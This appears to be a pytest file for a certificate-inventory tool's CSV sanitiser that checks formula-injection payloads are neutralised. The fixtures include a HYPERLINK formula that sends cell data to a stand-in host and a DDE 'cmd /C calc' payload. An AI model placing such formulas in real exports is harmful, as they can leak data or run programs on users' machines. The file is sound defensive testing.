"""CSV cells a spreadsheet cannot run (OWASP CSV Injection), for every CSV certscope writes."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from certscope import csvsafe


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert csvsafe.cell(start + 'HYPERLINK("http://x.test/?"&A1)') == "'" + start + (
        'HYPERLINK("http://x.test/?"&A1)'
    )


def test_plain_text_numbers_and_none() -> None:
    assert csvsafe.cell("web.example.test") == "web.example.test"
    assert csvsafe.cell("a=b") == "a=b"  # only the first character makes a formula
    assert csvsafe.cell(-3.5) == -3.5  # a negative number is data
    assert csvsafe.cell(0) == 0
    assert csvsafe.cell(None) == ""


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    out = csvsafe.cell(text)
    assert isinstance(out, str)
    assert not out.startswith(csvsafe.FORMULA_STARTS)
    assert out.removeprefix("'") == text or out == text


def test_dict_rows_round_trip() -> None:
    text = csvsafe.dict_rows(("a", "b"), [{"a": "=1+1", "b": 7}, {"a": "ok", "b": None}])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [{"a": "'=1+1", "b": "7"}, {"a": "ok", "b": ""}]


def test_inventory_csv_neutralises_a_hostile_san() -> None:
    from datetime import UTC, datetime

    from certscope import inventory

    now = datetime(2026, 6, 1, tzinfo=UTC)
    (row,) = (
        dict.fromkeys(inventory.COLUMNS)
        | {
            "kind": "certificate",
            "subject_cn": "@SUM(1+1)*cmd|' /C calc'!A0",
            "sans": ['=HYPERLINK("http://evil.test/?"&A1)', "ok.test"],
            "labels": {},
            "attributes": {},
            "verification_errors": [],
            "days_left": -2.5,
            "last_seen": now.isoformat(),
        },
    )
    (parsed,) = csv.DictReader(io.StringIO(inventory.to_csv([row])))
    assert parsed["sans"] == '\'=HYPERLINK("http://evil.test/?"&A1) ok.test'
    assert parsed["subject_cn"].startswith("'@")
    assert parsed["days_left"] == "-2.5"
